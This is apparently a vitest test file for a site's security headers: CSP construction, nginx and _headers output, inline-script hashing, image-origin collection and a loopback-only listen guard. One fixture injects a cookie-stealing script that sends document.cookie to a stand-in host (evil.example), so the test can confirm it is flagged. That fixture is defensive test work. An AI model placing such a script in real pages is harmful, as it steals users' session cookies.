import { describe, expect, it } from 'vitest';
import { contentSecurityPolicy, headersFile, nginxHeaders, securityHeaders } from '../../src/lib/security/headers.ts';
import { PolicyCollector, astroInlineScripts, cspHash, externalImageOrigins, htmlInlineScripts } from '../../src/lib/security/inline-scripts.ts';
import { isLoopbackHost, listenHost } from '../../src/lib/security/listen.ts';

/** The policy as a map of directive → sources. */
function directives(policy: string): Map<string, string[]> {
  return new Map(policy.split(';').map((d) => d.trim().split(/\s+/)).map(([name, ...sources]) => [name!, sources]));
}

const theme = `\n  try { document.documentElement.dataset.theme = localStorage.getItem('pinkas-theme'); } catch {}\n`;
const layout = `---
const data = { a: 1 };
---
<html>
  <head>
    <script is:inline>${theme}</script>
  </head>
  <body>
    <script is:inline type="application/json" id="page-data" set:html={JSON.stringify(data)} />
    <script is:inline>console.log('printed');</script>
    <script>import './bundled.ts';</script>
    <script is:inline define:vars={{ a: 1 }}>console.log(a);</script>
    <script is:inline type="module">console.log('module');</script>
  </body>
</html>`;

describe('the Content-Security-Policy', () => {
  const policy = directives(contentSecurityPolicy({ scriptHashes: ['sha256-b', 'sha256-a'], imageOrigins: ['https://imgs.example'] }));

  it("runs the site's own files and hashed inline scripts, and nothing inline that is not hashed", () => {
    expect(policy.get('script-src')).toEqual(["'self'", "'sha256-a'", "'sha256-b'"]);
    expect(policy.get('script-src')).not.toContain("'unsafe-inline'");
    expect(policy.get('script-src')).not.toContain("'unsafe-eval'");
    expect(policy.get('default-src')).toEqual(["'self'"]);
  });

  it('cannot be framed, embeds no plugins and keeps the base address', () => {
    expect(policy.get('frame-ancestors')).toEqual(["'none'"]);
    expect(policy.get('object-src')).toEqual(["'none'"]);
    expect(policy.get('base-uri')).toEqual(["'self'"]);
    expect(policy.get('form-action')).toEqual(["'self'"]);
  });

  it("allows inline styles (CodeMirror's) but sends nothing to other sites except the images of reviewed pages", () => {
    expect(policy.get('style-src')).toEqual(["'self'", "'unsafe-inline'"]);
    expect(policy.get('img-src')).toEqual(["'self'", 'data:', 'blob:', 'https://imgs.example']);
    expect(policy.get('connect-src')).toEqual(["'self'"]);
    expect(policy.get('font-src')).toEqual(["'self'"]);
    expect(policy.get('worker-src')).toEqual(["'self'"]);
  });

  it('comes with the other headers of every response', () => {
    expect(securityHeaders({ scriptHashes: [], imageOrigins: [] }).map((h) => `${h.name}: ${h.value.split(';')[0]}`)).toEqual([
      "Content-Security-Policy: default-src 'self'",
      'X-Content-Type-Options: nosniff',
      'Referrer-Policy: same-origin',
      'X-Frame-Options: DENY',
    ]);
  });
});

describe('the headers for static hosts', () => {
  const headers = securityHeaders({ scriptHashes: ['sha256-a'], imageOrigins: [] });

  it('are one _headers rule for every path (Netlify, Cloudflare Pages), under the base path', () => {
    const file = headersFile(headers);
    const lines = file.trimEnd().split('\n');
    expect(lines.filter((l) => l.startsWith('/'))).toEqual(['/*']);
    expect(lines).toContain('  X-Content-Type-Options: nosniff');
    expect(lines).toContain(`  Content-Security-Policy: ${headers[0]!.value}`);
    expect(headersFile(headers, '/handbook/').split('\n')).toContain('/handbook/*');
  });

  it('are nginx add_header directives that also apply to error pages', () => {
    const lines = nginxHeaders(headers).trimEnd().split('\n').filter((l) => !l.startsWith('#'));
    expect(lines).toHaveLength(headers.length);
    expect(lines).toContain('add_header X-Frame-Options "DENY" always;');
    expect(lines[0]).toBe(`add_header Content-Security-Policy "${headers[0]!.value}" always;`);
  });
});

describe("the site's own inline scripts", () => {
  it('are the is:inline scripts of .astro files that run, with their text as written', () => {
    expect(astroInlineScripts(layout)).toEqual([theme, "console.log('printed');", "console.log('module');"]);
  });

  it('are found in a built page, without data islands or bundled files', () => {
    const html = `<head><script>${theme}</script><script type="module" src="/_astro/a.js"></script></head>
      <body><script type="application/json" id="d">{"a":"\\u003c/b>"}</script><script type="module">go()</script></body>`;
    expect(htmlInlineScripts(html)).toEqual([theme, 'go()']);
  });

  it('are hashed as browsers hash them', () => {
    // The example of the CSP specification's readers (MDN, script-src).
    expect(cspHash("alert('Hello, world.');")).toBe('sha256-qznLcsROx4GACP2dm0UCKCzCG+HiZ1guq6ZZDob/Tng=');
  });

  it('are the only inline scripts the policy allows: one that came with a page is reported, not hashed', () => {
    const collector = new PolicyCollector([layout]);
    collector.addPage('hr/leave/index.html', `<html><head><script>${theme}</script></head><body><p>Leave</p><script>fetch('//evil.example/?c=' + document.cookie)</script></body></html>`);
    collector.addPage('index.html', `<html><head><script>${theme}</script></head><body><script>console.log('printed');</script></body></html>`);
    expect(collector.policy().scriptHashes).toEqual([cspHash(theme), cspHash("console.log('printed');")].sort());
    expect(collector.foreign).toEqual([{ page: 'hr/leave/index.html', text: "fetch('//evil.example/?c=' + document.cookie)" }]);
  });

  it('do not include a script whose text differs from the source by a single character', () => {
    const collector = new PolicyCollector([layout]);
    collector.addPage('index.html', `<script>${theme.trim()}</script>`);
    expect(collector.policy().scriptHashes).toEqual([]);
    expect(collector.foreign).toHaveLength(1);
  });
});

describe('images from other sites', () => {
  it('are allowed by origin, as the built pages show them', () => {
    const html = `<img src="/media/a.png" alt=""><img alt="comic" src="https://imgs.xkcd.com/comics/password_strength.png">
      <img src="data:image/png;base64,AAAA" alt=""><picture><source srcset="https://cdn.example/a.webp 1x, https://cdn2.example/a.webp 2x"><img src="./b.png" alt=""></picture>
      <img src="//static.example/c.png" alt=""><a href="https://not-an-image.example/">link</a>`;
    expect(externalImageOrigins(html)).toEqual(['https://cdn.example', 'https://cdn2.example', 'https://imgs.xkcd.com', 'static.example']);
  });

  it('reach the policy from every page', () => {
    const collector = new PolicyCollector([]);
    collector.addPage('a/index.html', '<img src="https://docs.google.com/drawings/d/x/pub?w=890&amp;h=1047" alt="">');
    collector.addPage('b/index.html', '<img src="https://docs.google.com/other.png" alt="">');
    expect(collector.policy().imageOrigins).toEqual(['https://docs.google.com']);
  });
});

describe('where the production server listens', () => {
  it('is 127.0.0.1 by default with the dev identity', () => {
    expect(listenHost({})).toEqual({ ok: true, host: '127.0.0.1' });
    expect(listenHost({ PINKAS_IDENTITY: 'dev', HOST: '' })).toEqual({ ok: true, host: '127.0.0.1' });
  });

  it('may be another loopback address with the dev identity', () => {
    for (const host of ['127.0.0.1', '127.0.1.1', 'localhost', '::1', '[::1]', '::ffff:127.0.0.1']) {
      expect(isLoopbackHost(host), host).toBe(true);
      expect(listenHost({ HOST: host }), host).toEqual({ ok: true, host });
    }
  });

  it('is refused beyond this machine with the dev identity, saying why and what to do', () => {
    for (const host of ['0.0.0.0', '::', '192.168.1.20', 'wiki.galil.example', '128.0.0.1']) {
      expect(isLoopbackHost(host), host).toBe(false);
      const decision = listenHost({ HOST: host });
      expect(decision.ok, host).toBe(false);
      if (!decision.ok) {
        expect(decision.message).toContain(`HOST=${host}`);
        expect(decision.message).toContain('PINKAS_IDENTITY=header');
        expect(decision.message).toContain('PINKAS_DEV_ALLOW_REMOTE=1');
      }
    }
  });

  it('is any HOST when PINKAS_DEV_ALLOW_REMOTE says so, or with real sign-in', () => {
    expect(listenHost({ HOST: '0.0.0.0', PINKAS_DEV_ALLOW_REMOTE: '1' })).toEqual({ ok: true, host: '0.0.0.0' });
    expect(listenHost({ HOST: '0.0.0.0', PINKAS_DEV_ALLOW_REMOTE: '0' }).ok).toBe(false);
    expect(listenHost({ HOST: '0.0.0.0', PINKAS_IDENTITY: 'header' })).toEqual({ ok: true, host: '0.0.0.0' });
    expect(listenHost({ PINKAS_IDENTITY: 'github' })).toEqual({ ok: true, host: undefined });
  });
});
